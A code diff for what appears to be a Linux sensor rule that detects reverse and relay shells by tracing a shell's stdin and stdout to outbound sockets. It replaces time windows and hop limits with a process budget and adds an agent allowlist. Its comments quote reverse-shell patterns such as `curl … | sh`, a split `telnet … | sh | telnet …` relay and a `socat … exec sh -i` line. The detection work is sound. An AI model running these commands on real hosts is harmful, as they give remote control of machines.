@@ -13,14 +13,24 @@
  * - both ways meet at one socket: whoever feeds the shell's stdin and whoever reads its output
  *   hold the same outbound socket (`curl … | sh` feeds a shell but reads nothing back), or two
  *   sockets to one remote host, one per direction (`telnet H P1 | sh | telnet H P2`);
- * - the socket and the shell are born together: it was connected within a few seconds of the
- *   shell's start, which a long-lived agent or runtime that spawns shells while holding
- *   unrelated connections does not show;
  * - the socket is outbound: the kernel saw it connect (an SSH session's pty master sits with
  *   an accepted socket, tmux and screen hold pty masters and no socket at all), or it existed
- *   as observation began and /proc/net/tcp shows no listener on its local port. Such a socket
- *   was connected at the latest then, so it counts as born with a shell only when observation
- *   began within connectedBeforeMs before the shell started (host/tcp-table.ts).
+ *   as observation began and /proc/net/tcp shows no listener on its local port
+ *   (host/tcp-table.ts).
+ *
+ * No time window and no hop count (docs/design.md §9: both are hints an attacker steps
+ * around by waiting or adding a `cat`). A shell stays a candidate as long as it lives; a chain
+ * is followed as far as a budget of processes examined per evaluation allows, and a look cut
+ * at that budget is counted as incomplete (SENSOR-001), never a silent no. A shell evicted
+ * from the bounded candidate table is counted as abandoned (SENSOR-001 too).
+ *
+ * What a window used to stand for, the remote-access agent that holds one long-lived
+ * connection and runs an interactive shell for a job, has exactly a relay's structure: the
+ * connection feeds the shell and reads it back. Nothing in the process tree separates it from
+ * `socat TCP:H:P SYSTEM:'sleep 600; exec sh -i'`, so it is named in the configuration
+ * (`rules.relay_agents`: executable and, where present, systemd unit, with a reason), and every
+ * verdict it suppresses is counted under that reason. Agents that run their jobs as `sh -c`
+ * or script files are no candidates at all: such a shell reads no commands from its stdin.
  */
 import type { ExecEvent, OutboundEvent, ConnectEvent, TaskContext } from "../../sensor/events.js";
 import type { ProcessInfo, ProcessView, RuleContext, RuleState } from "../../engine/rule.js";
@@ -30,21 +40,32 @@ import { OutboundRegistry, outboundSocketOf, type OutboundSocket } from "../sock
 import { InterpreterContents, identifyProgram, readsCommandsFromStdin, type IdentifiedBy, type InterpreterFamily } from "../stdio/interpreters.js";
 import { holdingsNow, ptyMasterKey, ptySlaveKey, socketKey, stdioHolding, type Access, type EndpointKey, type Holding } from "./holdings.js";
 
+/**
+ * A relay program that holds a connection and runs interactive shells for it by design (a
+ * remote-access or job agent): its verdicts are suppressed and counted under `reason`.
+ */
+export interface RelayAgentAllowEntry {
+  /** The program holding the socket, as a finding names it (`sockeye.relay.program.executable`: the path it was run by). */
+  executable: string;
+  /** The systemd unit it runs in ("runner.service"), when the entry should match only there. */
+  unit?: string;
+  /** Why this program may relay a shell; the suppression is counted under it. */
+  reason: string;
+}
+
 export interface RelayGraphOptions {
-  /** How long after a shell starts its pipeline may still come together (event time). */
-  windowMs?: number;
-  /** Most processes between the shell and the socket holder, the holder included. */
-  maxHops?: number;
-  /** How long before the shell's start its socket may have been connected. */
-  connectedBeforeMs?: number;
-  /** Outbound sockets remembered (oldest forgotten first); each for connectedBeforeMs + windowMs at most. */
+  /** Processes whose open files one evaluation may look at: a chain is followed by what it costs, not by hops. */
+  maxExamined?: number;
+  /** Outbound sockets remembered (least recently connected forgotten first). */
   maxSockets?: number;
-  /** Shells waiting for their pipeline at once (oldest dropped first, counted as evicted). */
+  /** Shells waiting for their pipeline at once (past it, the oldest is abandoned: SENSOR-001). */
   maxPending?: number;
   /** Processes indexed by the endpoints they started with on fds 0-2 (oldest dropped first). */
   maxIndexed?: number;
-  /** How long (event time) a process stays indexed when its exit is never seen (a lost record). */
+  /** How long (event time) a process stays indexed before its liveness is checked (its exit may have been lost). */
   indexedMaxAgeMs?: number;
+  /** Relay programs allowed to hold a shell's connection (remote-access and job agents). */
+  agents?: readonly RelayAgentAllowEntry[];
 }
 
 /** A socket the relay may hold, with its connector's parent (where the relay sits in the tree). */
@@ -75,23 +96,42 @@ export interface RelayVerdict {
   shellFds: number[];
   /** When the shell's output leaves by another connection than its input came in by. */
   outputSocket?: OutboundSocket;
+  /** The allowlist entry that names the relay program: the verdict is suppressed under its reason. */
+  allowedAgent?: RelayAgentAllowEntry;
 }
 
 interface Pending {
   exec: ExecEvent;
   interpreter: InterpreterFamily;
   identifiedBy: IdentifiedBy;
-  untilMs: number;
+  /** The shell, its parent and its ancestors at exec: who may have started its relay. */
+  family: Set<number>;
+  /** When (event time) to look once more after an event concerned it without a verdict. */
+  recheckAtMs?: number;
 }
 
 const DEFAULTS = {
-  windowMs: 5000, maxHops: 3, connectedBeforeMs: 10_000, maxSockets: 16_384, maxPending: 256, maxIndexed: 32_768, indexedMaxAgeMs: 3_600_000,
-} as const;
+  maxExamined: 256, maxSockets: 16_384, maxPending: 4096, maxIndexed: 32_768, indexedMaxAgeMs: 3_600_000, agents: [] as readonly RelayAgentAllowEntry[],
+};
 
 interface Node {
   pid: number;
   startNs: number;
 }
+
+/** Processes an index walk (pendingNear) may visit per event: in memory, no /proc read. */
+const NEAR_BUDGET = 512;
+/** A candidate an event concerned without a verdict is looked at once more this much later (event time). */
+const RECHECK_AFTER_MS = 1000;
+const NO_KEYS: ReadonlySet<string> = new Set();
+const NO_PIDS: ReadonlySet<number> = new Set();
+/** Candidates checked for liveness when the table is full, oldest first (each check is one /proc look). */
+const ROOM_LOOKS = 16;
+/** How many ancestors of an exec are checked for a candidate shell that spawned it. */
+const DESCENT_CHECKED = 4;
+
+/** Indexed processes past their age checked for liveness per event (each check is one /proc look). */
+const INDEX_CHECKS_PER_EVENT = 2;
 
 /** Shared "no verdict": read only. */
 const NO_VERDICTS: RelayVerdict[] = [];
@@ -99,15 +139,15 @@ Object.freeze(NO_VERDICTS);
 
 export class RelayGraph {
   private readonly opts: Required<RelayGraphOptions>;
-  /** Who connected which socket: a socket can be born with a shell only for connectedBeforeMs + windowMs. */
+  /** Who connected which socket, for as long as the count bound keeps it: a relay may wait any time before its shell. */
   private readonly sockets: OutboundRegistry<RelaySocket>;
   /** endpoint key → processes that started with it on fds 0-2 (process key → node) */
   private readonly stdioHolders = new Map<EndpointKey, Map<string, Node>>();
   /** process key → endpoint keys it is indexed under and when, in exec order */
   private readonly indexedUnder = new Map<string, { keys: EndpointKey[]; timeMs: number }>();
   private readonly pending = new Map<string, Pending>();
-  /** Outbound sockets that existed as observation began (inode → socket), while they can matter. */
-  private existing = new Map<number, OutboundSocket>();
+  /** Outbound sockets that existed as observation began (inode → socket). */
+  private readonly existing = new Map<number, OutboundSocket>();
   /** Event time of the first event: when observation began. */
   private observedSinceMs: number | undefined;
   /**
@@ -127,7 +167,7 @@ export class RelayGraph {
 
   constructor(options: RelayGraphOptions = {}) {
     this.opts = { ...DEFAULTS, ...options };
-    this.sockets = new OutboundRegistry({ maxSockets: this.opts.maxSockets, maxAgeMs: this.opts.connectedBeforeMs + this.opts.windowMs });
+    this.sockets = new OutboundRegistry({ maxSockets: this.opts.maxSockets, maxAgeMs: Number.POSITIVE_INFINITY });
   }
 
   /** Before the first event: the TCP sockets that already exist (a later call changes nothing). */
@@ -150,13 +190,17 @@ export class RelayGraph {
   onOutbound(event: OutboundEvent | ConnectEvent, ctx: RuleContext): RelayVerdict[] {
     const socket = outboundSocketOf(event);
     if (socket === undefined) return [];
-    this.observe(event.timeMs);
+    this.observe(event.timeMs, ctx);
     this.sockets.remember({ ...socket, ppid: event.task.ppid }, event.timeMs);
-    return this.reevaluate(event.timeMs, ctx, () => true);
+    // The shells this connect may complete: those the connector or its parent started (a
+    // relay, a pipeline's `nc`), and those its own stdio leads to (it may sit at the end of a
+    // chain of intermediates).
+    const near = this.pendingNear(processKey(event.task));
+    return this.reevaluate(event.timeMs, ctx, (p, pk) => near.has(pk) || p.family.has(event.task.pid) || p.family.has(event.task.ppid));
   }
 
   onExec(event: ExecEvent, ctx: RuleContext): RelayVerdict[] {
-    this.observe(event.timeMs);
+    this.observe(event.timeMs, ctx);
     const pk = processKey(event.task);
     this.unindex(pk);
     // A plain loop, and arrays only for an exec that has something to index: every exec of the
@@ -181,19 +225,24 @@ export class RelayGraph {
       }
     }
 
-    // Pipeline members start in any order: a sibling's or child's exec may complete a chain.
-    const related = (p: Pending) => p.exec.task.ppid === event.task.ppid || p.exec.task.pid === event.task.ppid;
-    const out = this.reevaluate(event.timeMs, ctx, related);
+    // Pipeline members start in any order: a sibling's exec, or one with a relayable stdio
+    // (an intermediate `cat` of a chain), may complete a chain. Not every child of a shell: an
+    // interactive shell runs commands all its life.
+    const near = keys === undefined ? NO_KEYS : this.pendingNear(pk);
+    // A command a candidate shell runs inherits its stdio and so is "near" it, yet adds
+    // nothing to its chain: a shell fed commands through a pipe (`cat cmds | sh`) would be
+    // looked at again for every command it runs.
+    const spawnedBy = near.size === 0 ? NO_PIDS : new Set([event.task.ppid, ...ctx.processes.ancestors(event.task.ppid, DESCENT_CHECKED).map((a) => a.pid)]);
+    const out = this.reevaluate(event.timeMs, ctx, (p, k) => p.exec.task.ppid === event.task.ppid || (near.has(k) && !spawnedBy.has(p.exec.task.pid)));
     const identity = this.candidate(event, ctx);
     if (identity === undefined) return out;
-    const verdict = this.evaluate({ exec: event, ...identity, untilMs: event.timeMs + this.opts.windowMs }, ctx);
+    const family = new Set<number>([event.task.pid, event.task.ppid]);
+    for (const a of ctx.processes.ancestors(event.task.ppid)) family.add(a.pid);
+    const pending: Pending = { exec: event, ...identity, family };
+    const verdict = this.evaluate(pending, ctx);
     if (verdict !== undefined) return [...out, verdict];
-    if (this.pending.size >= this.opts.maxPending) {
-      this.pending.delete(this.pending.keys().next().value!);
-      this.evicted++;
-      this.abandoned++;
-    }
-    this.pending.set(pk, { exec: event, ...identity, untilMs: event.timeMs + this.opts.windowMs });
+    if (this.pending.size >= this.opts.maxPending) this.makeRoom(ctx);
+    this.pending.set(pk, pending);
     return out;
   }
 
@@ -202,8 +251,8 @@ export class RelayGraph {
     return this.reevaluate(nowMs, ctx, () => true);
   }
 
-  onExit(task: TaskContext, timeMs?: number): void {
-    if (timeMs !== undefined) this.observe(timeMs);
+  onExit(task: TaskContext, timeMs?: number, ctx?: RuleContext): void {
+    if (timeMs !== undefined && ctx !== undefined) this.observe(timeMs, ctx);
     const pk = processKey(task);
     this.pending.delete(pk);
     this.unindex(pk);
@@ -226,35 +275,139 @@ export class RelayGraph {
     return { interpreter: identity.family, identifiedBy: identity.by };
   }
 
-  private reevaluate(nowMs: number, ctx: RuleContext, which: (p: Pending) => boolean): RelayVerdict[] {
+  /**
+   * Re-evaluates the candidates `which` picks, and those due for a second look. A pipeline's
+   * last piece may fall into place after the event that announced it (a process opens its FIFO
+   * after its exec, a forked subshell sets up a hop): a candidate an event concerned without a
+   * verdict is looked at once more on the first event RECHECK_AFTER_MS later. Not a window: the
+   * candidate stays, and any later related event looks again.
+   */
+  private reevaluate(nowMs: number, ctx: RuleContext, which: (p: Pending, pk: string) => boolean): RelayVerdict[] {
     if (this.pending.size === 0) return NO_VERDICTS;
-    const out: RelayVerdict[] = [];
+    let out: RelayVerdict[] | undefined;
     for (const [pk, p] of this.pending) {
-      const expired = nowMs > p.untilMs;
-      // An expired shell gets one last look (the event that completed its chain may be this
-      // one), then is let go.
-      if (!expired && !which(p)) continue;
+      const due = p.recheckAtMs !== undefined && nowMs >= p.recheckAtMs;
+      if (!due && !which(p, pk)) continue;
       const verdict = this.evaluate(p, ctx);
-      if (verdict !== undefined) out.push(verdict);
-      if (verdict !== undefined || expired) this.pending.delete(pk);
-      if (verdict === undefined && expired) this.expired++;
+      if (verdict === undefined) {
+        p.recheckAtMs = due ? undefined : nowMs + RECHECK_AFTER_MS;
+        continue;
+      }
+      (out ??= []).push(verdict);
+      this.pending.delete(pk);
     }
-    return out;
+    return out ?? NO_VERDICTS;
+  }
+
+  /**
+   * The candidates reachable from process `start` through the stdio index alone (exec-time
+   * pipes, FIFOs, unix sockets and ptys, terminals left out: one joins a whole session), up to
+   * NEAR_BUDGET processes: no /proc read, so an exec or connect anywhere on a chain finds the
+   * shell at its other end, however many hops away.
+   */
+  private pendingNear(start: string): ReadonlySet<string> {
+    const found = new Set<string>();
+    if (this.pending.size === 0) return found;
+    const seen = new Set<string>([start]);
+    const queue = [start];
+    for (let i = 0; i < queue.length && seen.size < NEAR_BUDGET; i++) {
+      for (const key of this.indexedUnder.get(queue[i]!)?.keys ?? []) {
+        if (key.startsWith("tty:")) continue;
+        for (const far of farEnds(key, 0).concat(key)) {
+          for (const hk of this.stdioHolders.get(far)?.keys() ?? []) {
+            if (seen.has(hk)) continue;
+            seen.add(hk);
+            if (this.pending.has(hk)) found.add(hk);
+            queue.push(hk);
+          }
+        }
+      }
+    }
+    return found;
+  }
+
+  /**
+   * The candidate table is full: shells whose exit was lost go first (the table, else /proc,
+   * says they are gone, among the oldest ROOM_LOOKS); only when those are alive is the oldest abandoned, which is
+   * coverage lost and counted so (SENSOR-001), not a silent drop.
+   */
+  private makeRoom(ctx: RuleContext): void {
+    // The oldest few only: with the table full of live decoys, every new candidate would
+    // otherwise cost a look at each of thousands.
+    let looked = 0;
+    for (const [pk, p] of this.pending) {
+      if (looked++ >= ROOM_LOOKS) break;
+      const t = p.exec.task;
+      const info = ctx.processes.get(t.pid, t.startNs);
+      if (info?.exited === true || ctx.host.openFiles(t.pid, t.startNs).status === "gone") {
+        this.pending.delete(pk);
+        this.expired++;
+      }
+    }
+    if (this.pending.size < this.opts.maxPending) return;
+    this.pending.delete(this.pending.keys().next().value!);
+    this.evicted++;
+    this.abandoned++;
   }
 
   private evaluate(p: Pending, ctx: RuleContext): RelayVerdict | undefined {
-    const { processes, host } = ctx;
-    const shell = p.exec.task;
-    // One look per process per evaluation: what it holds may change between events.
+    const { host } = ctx;
+    // One look per process per evaluation: what it holds may change between events. The
+    // looks are the evaluation's cost: past maxExamined processes the chain is not followed
+    // further, and the evaluation is counted as incomplete.
     const cache = new Map<string, Holding[] | undefined>();
+    let cut = false;
     const holdingsOf = (n: Node) => {
       const k = processKey(n);
       if (!cache.has(k)) {
+        if (cache.size >= this.opts.maxExamined) {
+          cut = true;
+          return undefined;
+        }
         const now = holdingsNow(host, n.pid, n.startNs);
         if (now?.incomplete === true) this.incomplete++;
         cache.set(k, now?.holdings);
       }
       return cache.get(k);
+    };
+    const verdict = this.evaluateWith(p, ctx, holdingsOf);
+    if (verdict === undefined && cut) this.incomplete++;
+    return verdict === undefined ? undefined : this.allowAgent(verdict, ctx);
+  }
+
+  /**
+   * The verdict, marked when the program holding the socket is an allowed agent: its
+   * executable is the entry's and, when the entry names a unit, its cgroup is in that unit.
+   */
+  private allowAgent(verdict: RelayVerdict, ctx: RuleContext): RelayVerdict {
+    if (this.opts.agents.length === 0) return verdict;
+    const holder = verdict.input[verdict.input.length - 1];
+    if (holder === undefined) return verdict;
+    const info = ctx.processes.get(holder.pid);
+    let unit: string | undefined | null = null;
+    const unitOf = () => {
+      if (unit === null) unit = info === undefined ? undefined : serviceUnit(ctx.host.cgroupPath(info.cgroupId, holder.pid));
+      return unit;
+    };
+    const entry = this.opts.agents.find((a) => a.executable === holder.executable && (a.unit === undefined || a.unit === unitOf()));
+    return entry === undefined ? verdict : { ...verdict, allowedAgent: entry };
+  }
+
+  private evaluateWith(p: Pending, ctx: RuleContext, holdingsOf: (n: Node) => Holding[] | undefined): RelayVerdict | undefined {
+    const { processes } = ctx;
+    const shell = p.exec.task;
+    // A socket on the way that no connect record names: connected by a route the sensor does
+    // not see (io_uring's IORING_OP_CONNECT), or forgotten at the socket bound. The host's TCP
+    // tables say whether it is outbound (no listener on its local port), read at most once per
+    // evaluation and only when a chain reaches such a socket.
+    let table: Map<number, OutboundSocket> | undefined;
+    const socketOf = (ino: number): OutboundSocket | undefined => {
+      const known = this.socket(ino);
+      if (known !== undefined) return known;
+      table ??= new Map(ctx.host.tcpSockets().filter((t) => t.origin === "outbound").map((t) => [t.ino, {
+        ino: t.ino, pid: 0, startNs: 0, comm: "", timeMs: p.exec.timeMs, family: t.family, local: t.local, remote: t.remote, connectUnseen: true as const,
+      }]));
+      return table.get(ino);
     };
     const shellHoldings = holdingsOf(shell);
     if (shellHoldings === undefined) return undefined;
@@ -272,38 +425,36 @@ export class RelayGraph {
         return far.map((key) => ({ fd, key, access }));
       });
     const neighbours = this.neighbours(shell, processes);
-    const earliest = p.exec.timeMs - this.opts.connectedBeforeMs;
-    const latest = p.exec.timeMs + this.opts.windowMs;
-    const born = (s: OutboundSocket) => s.timeMs >= earliest && s.timeMs <= latest;
 
-    const input = this.search(ends([0]), "write", shell, neighbours, holdingsOf, born, processes);
+    const input = this.search(ends([0]), "write", shell, neighbours, holdingsOf, socketOf, processes);
     if (input.size === 0) return undefined;
-    const output = this.search(ends([1, 2]), "read", shell, neighbours, holdingsOf, born, processes);
+    const output = this.search(ends([1, 2]), "read", shell, neighbours, holdingsOf, socketOf, processes);
     const verdict = (inIno: number, outIno: number): RelayVerdict => {
       const inChain = input.get(inIno)!;
       const outChain = output.get(outIno)!;
       const shellFds = [0, ...[...outChain.fds].sort((a, b) => a - b)];
-      const socket = this.socket(inIno)!;
+      const socket = socketOf(inIno)!;
       return {
         shell: p.exec, interpreter: p.interpreter, identifiedBy: p.identifiedBy, socket, input: inChain.links, output: outChain.links, shellFds,
-        ...(outIno !== inIno ? { outputSocket: this.socket(outIno)! } : {}),
+        ...(outIno !== inIno ? { outputSocket: socketOf(outIno)! } : {}),
       };
     };
     for (const ino of input.keys()) if (output.has(ino)) return verdict(ino, ino);
     // A relay split over two connections, one per direction (`telnet H P1 | sh | telnet H P2`):
-    // both born with the shell and both to the same remote host. Two hosts are left out: a
+    // both reached from the shell and both to the same remote host. Two hosts are left out: a
     // downloaded script piped into a shell whose log is shipped elsewhere has that shape.
     for (const inIno of input.keys()) {
-      const remote = this.socket(inIno)!.remote.address;
-      for (const outIno of output.keys()) if (this.socket(outIno)!.remote.address === remote) return verdict(inIno, outIno);
+      const remote = socketOf(inIno)!.remote.address;
+      for (const outIno of output.keys()) if (socketOf(outIno)!.remote.address === remote) return verdict(inIno, outIno);
     }
     return undefined;
   }
 
   /**
    * Breadth-first from the shell's ends: processes holding a far end with `want` access (the
-   * writer of what the shell reads, the reader of what it writes), up to maxHops processes
-   * away. Returns, per outbound socket reached, the first chain that reached it.
+   * writer of what the shell reads, the reader of what it writes), as far as the evaluation's
+   * budget of looks goes (holdingsOf answers undefined past it). Returns, per outbound socket
+   * reached, the first chain that reached it.
    */
   private search(
     start: { fd: number; key: EndpointKey; access: Access }[],
@@ -311,7 +462,7 @@ export class RelayGraph {
     shell: Node,
     neighbours: Node[],
     holdingsOf: (n: Node) => Holding[] | undefined,
-    born: (s: OutboundSocket) => boolean,
+    socketOf: (ino: number) => OutboundSocket | undefined,
     processes: ProcessView,
   ): Map<number, { links: ChainLink[]; fds: Set<number> }> {
     const found = new Map<number, { links: ChainLink[]; fds: Set<number> }>();
@@ -319,7 +470,9 @@ export class RelayGraph {
     for (const end of start) {
       const visited = new Set<string>([processKey(shell)]);
       let frontier = [{ keys: [end.key], links: [] as ChainLink[], shellFd: end.fd }];
-      for (let hop = 0; hop < this.opts.maxHops && frontier.length > 0; hop++) {
+      // Ends when no process is left to cross: each process is crossed once (visited), so the
+      // walk is bounded by the processes the budget lets it look at.
+      while (frontier.length > 0) {
         const next: typeof frontier = [];
         for (const f of frontier) {
           for (const key of f.keys) {
@@ -333,8 +486,8 @@ export class RelayGraph {
               const info = processes.get(holder.pid, holder.startNs);
               const links = [...f.links, link(holder, info, via)];
               const sockets = held.flatMap((h) => {
-                const s = h.key.startsWith("sock:") ? this.socket(Number(h.key.slice(5))) : undefined;
-                return s !== undefined && born(s) ? [s] : [];
+                const s = h.key.startsWith("sock:") ? socketOf(Number(h.key.slice(5))) : undefined;
+                return s !== undefined ? [s] : [];
               });
               for (const s of sockets) {
                 const seen = found.get(s.ino);
@@ -385,10 +538,9 @@ export class RelayGraph {
 
   /**
    * The first event starts observation: the outbound sockets that exist now were connected
-   * unseen, at the latest now. They can be born with a shell starting within connectedBeforeMs
-   * from now (looked at until its window closes), never later, and are dropped after that.
+   * unseen, and are kept (within maxSockets) for any shell that may reach them later.
    */
-  private observe(nowMs: number): void {
+  private observe(nowMs: number, ctx: RuleContext): void {
     if (this.observedSinceMs === undefined) {
       this.observedSinceMs = nowMs;
       const startup = this.startupSockets ?? [];
@@ -399,20 +551,29 @@ export class RelayGraph {
           ino: t.ino, pid: 0, startNs: 0, comm: "", timeMs: nowMs, family: t.family, local: t.local, remote: t.remote, beforeObservation: true,
         });
       }
-    } else if (this.existing.size > 0 && nowMs > this.observedSinceMs + this.opts.connectedBeforeMs + this.opts.windowMs) {
-      this.expired += this.existing.size;
-      this.existing = new Map();
     }
-    this.sockets.expire(nowMs);
-    this.expireIndexed(nowMs);
+    this.expireIndexed(nowMs, ctx);
   }
 
-  /** Processes indexed longer than indexedMaxAgeMs: their exit was lost, or they hold nothing a new shell can reach. */
-  private expireIndexed(nowMs: number): void {
-    for (const [pk, { timeMs }] of this.indexedUnder) {
-      if (nowMs - timeMs <= this.opts.indexedMaxAgeMs) break;
-      this.unindex(pk);
-      this.expired++;
+  /**
+   * Processes indexed longer than indexedMaxAgeMs are looked at: gone ones (their exit was
+   * lost) are let go, live ones are indexed again from now (a FIFO chain's `cat` may wait
+   * hours for its relay). At most a few per event, so the sweep's cost stays per event.
+   */
+  private expireIndexed(nowMs: number, ctx: RuleContext): void {
+    for (let i = 0; i < INDEX_CHECKS_PER_EVENT; i++) {
+      const oldest = this.indexedUnder.entries().next();
+      if (oldest.done === true || nowMs - oldest.value[1].timeMs <= this.opts.indexedMaxAgeMs) return;
+      const [pk, entry] = oldest.value;
+      const [pid, startNs] = pk.split(":").map(Number) as [number, number];
+      this.indexedUnder.delete(pk);
+      if (ctx.host.openFiles(pid, startNs).status === "gone") {
+        this.indexedUnder.set(pk, entry);
+        this.unindex(pk);
+        this.expired++;
+      } else {
+        this.indexedUnder.set(pk, { keys: entry.keys, timeMs: nowMs });
+      }
     }
   }
 
@@ -439,6 +600,14 @@ function farEnds(key: EndpointKey, peerIno: number): EndpointKey[] {
   if (key.startsWith("sock:")) return peerIno !== 0 ? [socketKey(peerIno)] : [];
   if (key.startsWith("tty:")) return [];
   return [key];
+}
+
+/** The systemd unit a cgroup path is in: its innermost `*.service` or `*.scope` folder. */
+export function serviceUnit(cgroupPath: string | undefined): string | undefined {
+  if (cgroupPath === undefined) return undefined;
+  const parts = cgroupPath.split("/");
+  for (let i = parts.length - 1; i >= 0; i--) if (/\.(service|scope)$/.test(parts[i]!)) return parts[i];
+  return undefined;
 }
 
 function link(holder: Node, info: ProcessInfo | undefined, via: Holding): ChainLink {
